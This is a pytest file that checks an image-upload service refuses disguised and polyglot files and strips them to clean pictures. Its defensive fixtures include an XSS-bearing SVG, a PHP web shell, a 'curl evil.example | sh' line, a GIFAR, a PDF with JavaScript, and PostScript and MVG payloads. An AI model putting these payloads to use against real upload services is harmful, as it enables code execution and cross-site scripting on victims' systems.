"""Files that are something else as well, or instead: refused, or made into pictures that are nothing but that."""

from __future__ import annotations

import io
import zipfile

import pytest
from PIL import Image

from service.distribution import BEHAVIORS
from service.errors import FailureCode
from service.processing.detect import HEAD_BYTES, sniff
from tests import hostile
from tests.edge_stand import FEED, NOW, ORIGINAL, Stand
from tests.in_process import process, refusal_of, saved
from tests.photos import small_photo

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def archive() -> bytes:
    """A zip, as a .jar is one."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as opened:
        opened.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil")
    return packed.getvalue()


INSTEAD = {
    "a web page": hostile.page(),
    "a page behind a byte order mark": b"\xef\xbb\xbf" + hostile.page(),
    "an SVG": SVG,
    "an SVG with a preamble": b'<?xml version="1.0"?>\n<!-- a -->' + SVG,
    "a script": b"/*\xff\xd8\xff\xe0*/=1;alert(1)",
    "a shell script": b"#!/bin/sh\ncurl evil.example | sh\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "a program": b"\x7fELF\x02\x01\x01" + bytes(64),
    "an archive": archive(),
    "a PDF": b"%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    "PostScript": b"%!PS-Adobe-3.0\n/command (%pipe%id) (w) file\n",
    "MVG": b"push graphic-context\nimage over 0,0 0,0 'https://evil.example/x.png'\npop graphic-context\n",
}


@pytest.mark.parametrize("content_type", ["image/jpeg", "image/png", "image/webp", "image/gif", "image/heic"])
@pytest.mark.parametrize("what", INSTEAD)
def test_what_is_no_picture_is_none_whatever_it_is_called(what: str, content_type: str) -> None:
    refusal = refusal_of(INSTEAD[what], content_type)
    assert refusal.failure is FailureCode.TYPE_MISMATCH
    assert not (sniff(INSTEAD[what][:HEAD_BYTES]) or "").startswith(("image/jpeg", "image/png", "image/gif"))


@pytest.mark.parametrize("content_type", ["image/svg+xml", "text/html", "application/pdf", "application/java-archive"])
def test_types_that_can_run_something_are_never_asked_for(content_type: str) -> None:
    assert refusal_of(SVG, content_type).failure in {FailureCode.UNSUPPORTED_FORMAT, FailureCode.TYPE_MISMATCH}


def commented(script: bytes) -> bytes:
    """A JPEG that begins as one, with `script` where a comment stands."""
    photo = small_photo()
    return photo[:2] + b"\xff\xfe" + (len(script) + 2).to_bytes(2, "big") + script + photo[2:]


def gif_script() -> bytes:
    """A GIF whose comment ends what its first bytes begin as JavaScript."""
    return saved(Image.new("P", (8, 8)), "GIF", comment=b"*/=1;alert(document.domain)//")


BOTH = {
    "a page in a comment": (commented(SCRIPT + hostile.page()), "image/jpeg"),
    "a page at the end": (small_photo() + hostile.page(), "image/jpeg"),
    "a GIFAR": (saved(Image.new("RGB", (8, 8)), "GIF") + archive(), "image/gif"),
    "a JPEG and an archive": (small_photo() + archive(), "image/jpeg"),
    "a GIF and a script": (gif_script(), "image/gif"),
}
MARKS = (b"<script", b"<!DOCTYPE", b"alert(", b"PK\x03\x04", b"MANIFEST", b"Main-Class")


@pytest.mark.parametrize("what", BOTH)
def test_of_what_is_a_picture_too_nothing_but_the_picture_is_left(what: str) -> None:
    original, content_type = BOTH[what]
    assert any(mark in original for mark in MARKS)
    renditions = process(original, content_type).renditions
    assert renditions
    for rendition in renditions:
        assert not any(mark in rendition.body for mark in MARKS)


async def test_what_the_edge_serves_is_shown_or_saved_and_never_run() -> None:
    stand = Stand()
    expires = int(NOW) + 300
    async with stand.client:
        rendition = await stand.get(stand.signers.public.sign(FEED, expires))
        original = await stand.get(stand.signers.original.sign(ORIGINAL, expires))
    for answer in (rendition, original):
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("image/")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
        assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert "content-disposition" not in rendition.headers
    # Without a name of the client's choosing.
    assert original.headers["content-disposition"] == "attachment"


def test_every_behaviour_of_the_distribution_says_so() -> None:
    for behavior in BEHAVIORS:
        assert behavior.response_headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in behavior.response_headers["Content-Security-Policy"]
